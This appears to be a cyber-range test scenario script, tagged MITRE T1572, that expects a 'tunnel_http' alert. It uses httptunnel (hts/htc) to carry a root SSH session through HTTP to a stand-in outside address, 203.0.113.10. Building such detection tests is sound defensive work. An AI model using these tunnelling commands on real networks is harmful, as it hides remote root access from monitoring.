# SPDX-License-Identifier: Apache-2.0
# what: a ssh session in HTTP requests
# technique: T1572
# from: ws1
# to: inet
# account: root
# outcome: success
# must: alert tunnel_http
. "$RANGE_HERE/item.sh"
at inet hts -S -F 127.0.0.1:22 203.0.113.10:8888 >"$RANGE/hts.log" 2>&1 &
sleep 0.5
htc -S -F 2223 203.0.113.10:8888 >"$HOME/htc.log" 2>&1 &
sleep 1
says inet timeout 30 ssh -F "$HOME/.ssh/config" -i "$HOME/.ssh/id_ed25519" -p 2223 root@127.0.0.1 'hostname; seq 3000'
